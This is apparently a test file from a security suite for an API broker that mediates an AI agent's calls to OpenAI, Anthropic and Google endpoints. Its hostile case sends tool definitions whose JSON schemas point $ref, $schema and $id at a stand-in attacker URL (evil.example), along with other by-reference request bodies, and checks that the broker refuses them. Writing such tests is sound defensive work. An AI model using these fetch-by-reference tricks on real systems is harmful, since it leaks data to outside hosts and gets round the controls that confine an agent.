import type { Protocol } from '../../../src/broker/broker.ts';
import { ANTHROPIC_REFUSED, type BodyCase, OPENAI_REFUSED } from '../../broker/body-cases.ts';
import { GOOGLE_REFUSED } from '../../broker/google-cases.ts';
import { RESPONSES_REFUSED } from '../../broker/responses-cases.ts';
import { type HostileCase, judge } from '../case.ts';
import { type Ask, tryAll, VALID } from '../kit/channel.ts';

/** Content that the provider fetches, keeps, or has kept of somebody else. */
const BY_REFERENCE =
  /by (?:address|id|file|its other name|default)|behind "data:"|address beside|stor(?:age|ed)|as system|search result|upload for|result of code|call of|included$|item_reference|of the type mcp_|key (?:store|prompt|background|webhook|conversation|previous_response_id|cachedContent|cached_content|container|instructions|metadata|user)$/u;

export const hostile: HostileCase = {
  number: 92,
  title: 'The agent names addresses and stored things that the provider fetches for it',
  area: 'broker',
  lanes: ['unprivileged'],
  async attack(place, defence) {
    const got = await tryAll(place, defence, {
      'openai-chat': {
        ...pick(OPENAI_REFUSED),
        ...refer('openai-chat', (parameters) => ({
          type: 'function',
          function: { name: 'read', parameters },
        })),
      },
      'openai-responses': {
        ...pick(RESPONSES_REFUSED),
        ...refer('openai-responses', (parameters) => ({ type: 'function', name: 'read', parameters })),
      },
      'anthropic-messages': {
        ...pick(ANTHROPIC_REFUSED),
        ...refer('anthropic-messages', (input_schema) => ({ name: 'read', input_schema })),
      },
      'google-generate': {
        ...pick(GOOGLE_REFUSED),
        ...refer('google-generate', (parameters) => ({
          functionDeclarations: [{ name: 'read', parameters }],
        })),
      },
    });
    return judge(defence, got);
  },
};

function pick(cases: readonly BodyCase[]) {
  const chosen = cases.filter(({ what }) => BY_REFERENCE.test(what));
  return Object.fromEntries(chosen.map(({ what, body }) => [what, { body }]));
}

const AWAY = 'https://evil.example/?q=code';

/** A schema may stand elsewhere: validators fetch it from there, with whatever the address says. */
const SCHEMAS: Readonly<Record<string, object>> = {
  'a schema at an address': { type: 'object', $ref: AWAY },
  'an argument whose schema is at an address': { type: 'object', properties: { path: { $ref: AWAY } } },
  'a schema in a language of an address': { type: 'object', $schema: AWAY },
  'a schema with another base': { type: 'object', $id: AWAY, properties: { path: { $ref: 'more' } } },
};

/** Our own tool with such a schema. */
function refer(protocol: Protocol, toolOf: (schema: object) => object): Readonly<Record<string, Ask>> {
  const body = JSON.parse(VALID[protocol]) as object;
  const asks = Object.entries(SCHEMAS).map(([what, schema]) => {
    return [what, { body: JSON.stringify({ ...body, tools: [toolOf(schema)] }) }] as const;
  });
  return Object.fromEntries(asks);
}
